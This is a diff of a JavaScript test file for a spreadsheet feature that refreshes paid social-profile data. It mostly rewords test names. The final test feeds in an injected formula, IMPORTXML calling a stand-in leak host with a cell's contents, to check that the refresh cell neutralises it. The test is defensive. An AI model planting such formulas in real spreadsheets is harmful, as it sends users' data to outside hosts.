@@ -35,7 +35,7 @@ test('Refresh makes the selected empty cell the refresh cell, as text, and overw
   expect(file.sheet().H2).toEqual({ type: 'text', value: 'fresh 2026-11-20T10:00:00.000Z' });
 });
 
-test('Refresh buys fresh data for the formulas that name the refresh cell, and for no others', async () => {
+test('Refresh gets new data only for formulas with the refresh cell', async () => {
   const file = await openWithRefreshCell();
   file.type('A1', ada, ben);
   file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
@@ -51,7 +51,7 @@ test('Refresh buys fresh data for the formulas that name the refresh cell, and f
   });
 });
 
-test('reopening a file after a refresh buys nothing', async () => {
+test('reopening a file after a refresh costs nothing', async () => {
   const file = await openWithRefreshCell();
   file.type('A1', ada);
   file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
@@ -62,7 +62,7 @@ test('reopening a file after a refresh buys nothing', async () => {
   expect(await charged()).toBe(1);
 });
 
-test('a word in the refresh cell stays there: 7d buys only what is older than seven days', async () => {
+test('7d in the refresh cell stays there and replaces only data older than seven days', async () => {
   const file = await openWithRefreshCell();
   file.type('A1', ada);
   file.type('H1', '7d');
@@ -85,15 +85,15 @@ test.each([
   [`fresh ${new Date(nowMs - 3 * minuteMs).toISOString()}`, '1d'],
   [`fresh ${new Date(nowMs + minuteMs).toISOString()}`, '1d'],
   ['fresh whenever', '1d'],
-])('max_age %s asks for %s', (asked, expected) => {
-  expect(readMaxAge(asked, nowMs)).toBe(expected);
+])('max_age %s asks for %s', (input, expected) => {
+  expect(readMaxAge(input, nowMs)).toBe(expected);
 });
 
-test('a max_age that is not known is an error, a number too', () => {
-  for (const wrong of ['2d', 'day', 7, 'freshh']) expect(() => readMaxAge(wrong, nowMs)).toThrow('did you mean');
+test('an unknown max_age is an error, and so is a number', () => {
+  for (const wrong of ['2d', 'day', 7, 'freshh']) expect(() => readMaxAge(wrong, nowMs)).toThrow('Did you mean');
 });
 
-test('what stands in the refresh cell never becomes more than a known word and a time', () => {
+test('the refresh cell is always rewritten as a known word and a time', () => {
   expect(refreshedText('=IMPORTXML("http://leak.example"&A1)', nowMs)).toBe('fresh 2026-11-20T10:00:00.000Z');
   expect(refreshedText('3d old', nowMs)).toBe('3d 2026-11-20T10:00:00.000Z');
 });
